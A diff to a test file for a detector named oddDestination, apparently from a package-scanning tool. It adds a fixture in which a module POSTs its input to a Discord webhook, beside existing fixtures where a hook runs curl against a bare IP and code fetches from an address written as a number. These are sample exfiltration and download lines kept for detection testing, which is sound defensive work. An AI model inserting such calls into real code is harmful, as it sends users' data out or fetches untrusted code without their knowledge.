@@ -3,6 +3,12 @@ import { oddDestination } from "./index.ts";
 
 testDetector(oddDestination, {
   fires: {
+    "a mailbox given as host and path": [
+      "strong",
+      loaded(
+        `module.exports = (t) => require("https").request({ hostname: "discord.com", path: "/api/webhooks/112233445566778899/AbCdEfGhIjKl", method: "POST" }).end(t);`,
+      ),
+    ],
     "a bare address in a hook": ["strong", hooked("curl http://203.0.113.9/x -o x")],
     "an address written as a number": ["strong", loaded(`require("http").get("http://3405803785/x");`)],
     "an options object": [
